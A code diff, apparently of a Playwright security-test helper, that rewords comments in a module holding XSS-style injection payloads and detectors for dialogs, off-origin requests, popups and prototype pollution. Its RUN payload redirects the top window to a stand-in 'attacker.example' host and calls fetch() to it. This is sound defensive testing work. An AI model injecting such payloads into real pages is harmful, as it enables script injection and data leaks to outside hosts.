@@ -1,7 +1,7 @@
-// Texts that would do something if any part of the studio took them for more than texts, and the means to see whether one did.
+// Texts that act if any part of the studio takes them for more than texts, and the means to detect it.
 import type { Frame, Page } from 'playwright-core';
 
-/** No such server; a request to it is one that left. */
+/** A server that does not exist; a request to it has escaped. */
 export const ATTACKER = 'https://attacker.example';
 
 const RUN = `alert(1);parent.postMessage({type:'escaped'},'*');document.title='escaped';top.location='${ATTACKER}/top';fetch('${ATTACKER}/fetch')`;
@@ -24,7 +24,9 @@ export const ATTACKS: Readonly<Record<string, string>> = {
   'the name of a constructor': 'constructor',
 };
 
-/** Collects what must not happen in a page: dialogs, requests beyond its own server, new windows, messages that attacks send. */
+/**
+ * Collects forbidden events in a page: dialogs, requests beyond its own server, new windows and messages of attacks.
+ */
 export async function watch(page: Page, origin = 'none'): Promise<string[]> {
   const seen: string[] = [];
   page.on('dialog', (dialog) => {
@@ -32,7 +34,7 @@ export async function watch(page: Page, origin = 'none'): Promise<string[]> {
     void dialog.dismiss();
   });
   page.on('popup', (popup) => seen.push(`window ${popup.url()}`));
-  // What a policy forbids does not come here.
+  // Requests that a policy forbids do not arrive here.
   await page.route(
     (url) => /^(?:https?|file):$/.test(url.protocol) && !url.href.startsWith(origin),
     (route) => {
@@ -47,7 +49,7 @@ export async function watch(page: Page, origin = 'none'): Promise<string[]> {
   return seen;
 }
 
-/** What an attack has left in a document: handlers, foreign elements, addresses, polluted prototypes. */
+/** Lists the traces of an attack in a document: handlers, foreign elements and addresses, polluted prototypes. */
 export function listTraces(document: Frame | Page): Promise<string[]> {
   return document.evaluate(() => {
     // biome-ignore lint/suspicious/noExplicitAny: it runs in the browser, whose globals this project does not know
@@ -55,7 +57,7 @@ export function listTraces(document: Frame | Page): Promise<string[]> {
     const traces: string[] = [];
     const isOwn = (address: string) => {
       if (/^(?:#|data:image\/(?:png|jpeg|webp|gif);base64,|blob:)/.test(address)) return true;
-      // In a frame without an origin no address is its own.
+      // A frame without an origin has no address of the same origin.
       const { protocol, origin } = URL.canParse(address, location.href) ? new URL(address, location.href) : location;
       return /^https?:$/.test(protocol) && origin === location.origin;
     };
